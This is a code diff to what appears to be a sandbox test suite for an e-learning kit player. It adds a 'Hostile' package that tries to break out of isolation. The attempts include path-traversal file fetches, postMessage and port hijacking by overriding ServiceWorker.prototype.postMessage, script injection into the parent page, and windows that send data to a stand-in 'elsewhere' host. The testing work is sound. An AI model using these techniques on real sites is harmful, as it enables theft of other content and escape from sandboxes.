@@ -17,8 +17,8 @@ const TRIES: Readonly<Record<string, string>> = {
   'the dossier': `const answer = await fetch(app + '/db/', { credentials: 'include' }); return answer.status`,
   'the files of another kit': `const answer = await fetch(app + '/kit-files/introduction/1.0.0/pages/welcome.html'); return await answer.text()`,
   'the files of another kit, by its own worker': `for (const path of ['../old/imsmanifest.xml', '../../../pages/welcome.html', '..%2fold%2fimsmanifest.xml', '/play/x/index.html', '/kit-files/introduction/1.0.0/kit.json', 'kit.json']) { const answer = await fetch(path); if (answer.ok) return path } return undefined`,
-  'the files of another kit, by the app’s own messages': `const { port1, port2 } = new MessageChannel(); const answer = new Promise((resolve) => { port1.onmessage = ({ data }) => resolve(data); setTimeout(resolve, 1000) }); top.postMessage({ type: 'file', path: '../old/imsmanifest.xml' }, '*', [port2]); return (await answer) ?? undefined`,
-  'the same in the name of the player': `const { port1, port2 } = new MessageChannel(); const answer = new Promise((resolve) => { port1.onmessage = ({ data }) => resolve(data); setTimeout(resolve, 1000) }); parent.eval ? parent.setTimeout(() => parent.parent.postMessage({ type: 'file', path: '../old/imsmanifest.xml' }, '*', [port2])) : 0; return (await answer) ?? undefined`,
+  'a link to files, by the app’s own messages': `const linked = new Promise((resolve) => { addEventListener('message', ({ ports }) => ports.length && resolve('linked')); setTimeout(resolve, 1000) }); top.postMessage({ type: 'link' }, '*'); return (await linked) ?? undefined`,
+  'the files of another kit, in the name of the player': `const script = parent.document.createElement('script'); script.src = location.pathname.replace(/[^/]*$/, 'act.js'); const got = new Promise((resolve) => { parent.gotten = resolve; setTimeout(resolve, 3500, 'never asked') }); parent.document.head.append(script); return await got`,
   'a page elsewhere by fetch': `return await (await fetch(elsewhere + '/fetch')).text()`,
   'a page elsewhere by fetch, blindly': `await fetch(elsewhere + '/no-cors', { mode: 'no-cors' }); return 'sent'`,
   'a page elsewhere by beacon': `navigator.sendBeacon(elsewhere + '/beacon', 'x'); await wait(200); return undefined`,
@@ -34,6 +34,8 @@ const TRIES: Readonly<Record<string, string>> = {
   'a page elsewhere by an empty frame': `const frame = document.createElement('iframe'); document.body.append(frame); return await (await frame.contentWindow.fetch(elsewhere + '/empty-frame')).text()`,
   'a page elsewhere by a frame of its own making': `const frame = document.createElement('iframe'); frame.srcdoc = '<img src="' + elsewhere + '/srcdoc">'; document.body.append(frame); await wait(300); return undefined`,
   'a window': `return window.open(elsewhere + '/window') ? 'open' : undefined`,
+  'a window that is led elsewhere': `const pane = window.open(''); pane.location = elsewhere + '/led'; await wait(300); try { return pane.location.href.startsWith('about:') || pane.document ? undefined : 'there' } catch { return undefined } finally { try { pane.close() } catch {} }`,
+  'a window whose page fetches': `const pane = window.open('', 'written'); pane.document.write('<img src="' + elsewhere + '/written"><script>fetch("' + elsewhere + '/written-fetch", { mode: "no-cors" })</' + 'script>'); await wait(300); const got = await pane.fetch(elsewhere + '/pane', { mode: 'no-cors' }).then(() => 'sent', () => undefined); pane.close(); return got`,
   'the camera': `const stream = await navigator.mediaDevices.getUserMedia({ video: true }); return stream.id`,
   'the microphone': `const stream = await navigator.mediaDevices.getUserMedia({ audio: true }); return stream.id`,
   'the place': `return await new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('here'), () => resolve(undefined)))`,
@@ -45,6 +47,29 @@ const TRIES: Readonly<Record<string, string>> = {
   'caches of the app': `const all = await caches.keys(); return all.length > 0 ? all.join() : undefined`,
   'a service worker of its own': `await navigator.serviceWorker.register('worker-of-mine.js', { scope: '/' }); return 'registered'`,
 };
+
+/** Runs in the player's page itself: takes the link that is meant for the service worker, and asks on it for what is not its own. */
+const ACT = `
+const send = ServiceWorker.prototype.postMessage;
+ServiceWorker.prototype.postMessage = function (message, [port]) {
+  ServiceWorker.prototype.postMessage = send;
+  tryOn(port);
+};
+async function tryOn(port) {
+  const ask = (asked) => new Promise((resolve) => {
+    const { port1, port2 } = new MessageChannel();
+    port1.onmessage = ({ data }) => resolve(data);
+    setTimeout(resolve, 2000, null);
+    port.postMessage(asked, [port2]);
+  });
+  if ((await ask({ type: 'file', path: 'index.html' })) === null) return;
+  const others = ['../old/imsmanifest.xml', 'old/imsmanifest.xml', 'packages/old/imsmanifest.xml', 'kit.json', 'after.html', '/api/hub', 'constructor', '__proto__'];
+  for (const path of others) if ((await ask({ type: 'file', path })) !== null) return gotten(path);
+  for (const path of ['../api/hub', '../../api/hub.js', 'toString.js', 'scorm-1.2', '']) if ((await ask({ type: 'runtime', path })) !== null) return gotten(path);
+  if ((await ask('file')) !== null || (await ask(null)) !== null) return gotten('something');
+  gotten();
+}
+top.postMessage({ type: 'link' }, '*');`;
 
 export const ATTEMPTS: readonly string[] = Object.keys(TRIES);
 
@@ -78,6 +103,7 @@ const tries = { ${tries} };
     files: {
       'index.html': `<!doctype html><title>Hostile</title><p id="done">trying</p><p id="left"></p><pre id="said"></pre>
 <script>${script}</script>`,
+      'act.js': ACT,
       'worker-of-mine.js': 'self.addEventListener("fetch", () => undefined)',
     },
   };
